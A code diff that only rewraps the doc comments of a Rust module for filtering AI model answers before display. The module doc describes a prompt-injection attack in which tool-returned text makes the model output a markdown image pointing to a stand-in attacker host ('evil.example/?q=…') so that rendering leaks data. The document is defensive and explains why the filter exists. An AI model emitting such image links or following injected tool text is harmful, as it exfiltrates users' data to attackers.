@@ -1,9 +1,9 @@
 //! Answer filters: sanitizing the model's answers before people see them.
 //!
-//! Interfaces render answers. By prompt injection, a text that a tool returned can make the model answer with an image such
-//! as `![x](https://evil.example/?q=…)`. Rendering it sends the data in its address to the attacker without a click, which
-//! is data exfiltration. No prompt reliably prevents that; a filter does. `links` splits answers into text and code,
-//! `sanitize` removes addresses from text.
+//! Interfaces render answers. By prompt injection, a text that a tool returned can make the model answer with an
+//! image such as `![x](https://evil.example/?q=…)`. Rendering it sends the data in its address to the attacker
+//! without a click, which is data exfiltration. No prompt reliably prevents that; a filter does. `links` splits
+//! answers into text and code, `sanitize` removes addresses from text.
 //!
 //! # Examples
 //!
@@ -34,8 +34,8 @@ pub use links::SafeLinks;
 
 /// A filter on the answers that people see: the final reply, the conversation that is remembered, and streamed pieces.
 ///
-/// Structured answers are not filtered, because programs read them, and neither are reports of tool calls, which show what
-/// tools returned. If a filter panics, the answer is withheld.
+/// Structured answers are not filtered, because programs read them, and neither are reports of tool calls, which
+/// show what tools returned. If a filter panics, the answer is withheld.
 pub trait AnswerFilter: fmt::Debug + Send + Sync + 'static {
     /// Starts filtering a new answer to the user's message `user_text`, whose addresses a filter may allow.
     fn begin(&self, user_text: &str) -> Box<dyn FilteredAnswer>;
